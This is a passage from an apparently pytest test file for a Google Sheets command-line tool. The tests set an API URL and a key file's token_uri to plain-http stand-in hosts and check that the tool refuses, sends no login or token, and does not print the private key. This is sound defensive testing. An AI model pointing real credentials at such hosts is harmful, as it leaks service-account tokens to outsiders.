    env = {API_URL_ENV: "http://sheets.example.invalid:8123"}
    refused = f"{API_URL_ENV} names http://sheets.example.invalid, which would send the service account's token"
    for arguments in (["run", "--as-of", AS_OF], ["run", "--json", "--as-of", AS_OF], ["check"],
                      ["report", "--no-files"]):
        result = cli(setup.config_path, *arguments, env=env)
        assert "Traceback" not in result.stdout + result.stderr, result.stderr
        # An operator's setting: refused before any source is opened, exit 2 (SPEC §6).
        assert result.returncode == 2, (arguments, result.stdout, result.stderr)
        assert refused in result.stdout + result.stderr, (arguments, result.stdout, result.stderr)
    assert server.exchanges == []  # type: ignore[attr-defined]   # no login, no Sheets call


def test_a_key_whose_token_uri_is_plain_http_to_another_host_is_never_used(server: FakeSheetsServer,
                                                                           tmp_path: Path) -> None:
    """The key file says where the signed login goes; over plain http anyone on the way could
    replay it. The spreadsheets fail in one sentence and nothing is sent anywhere."""
    setup = GoogleSetup(server, tmp_path, [["A1", "wrong number"]])
    (tmp_path / "key.json").write_text(json.dumps({**setup.key, "token_uri": "http://oauth.example.invalid/token"}))
    result = cli(setup.config_path, "run", "--json", "--as-of", AS_OF)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    errors = json.loads(result.stdout)["errors"]
    assert errors and all("token_uri" in error["message"] and "not https://" in error["message"] for error in errors)
    assert setup.key["private_key"][40:80] not in result.stdout + result.stderr
    assert server.exchanges == []  # type: ignore[attr-defined]   # no login, no Sheets call


def test_check_names_each_google_spreadsheet_by_its_title_beside_its_id(server: FakeSheetsServer,
                                                                         tmp_path: Path) -> None:
    setup = GoogleSetup(server, tmp_path, [["A1", "wrong number"]])
    checked = cli(setup.config_path, "check", env={API_URL_ENV: server.url})
    assert checked.returncode == 0, checked.stdout + checked.stderr
    lines = " ".join(checked.stdout.split())
    assert f"tracking “Tracking” ({setup.tracking})" in lines
    assert f"Acme returns “Acme returns” ({setup.acme})" in lines
